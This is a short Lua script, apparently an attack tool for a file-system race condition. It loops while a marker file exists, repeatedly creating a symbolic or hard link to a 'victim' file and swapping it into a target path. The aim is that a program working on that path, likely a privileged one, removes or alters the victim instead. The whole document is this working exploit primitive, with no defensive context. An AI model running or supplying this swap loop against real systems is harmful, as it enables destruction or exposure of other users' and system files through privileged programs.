-- Puts something else in a path's place, again and again, until a file is gone: a link to the victim, or the victim
-- itself under another name. Usage: swap.lua PATH VICTIM KIND RUNNING
local lfs = require "lfs"
local path, victim, kind, running = arg[1], arg[2], arg[3], arg[4]

while lfs.symlinkattributes(running, "mode") do
  for _ = 1, 100 do
    lfs.link(victim, path .. ".swap", kind == "link")
    os.rename(path .. ".swap", path)
    os.remove(path)
  end
end
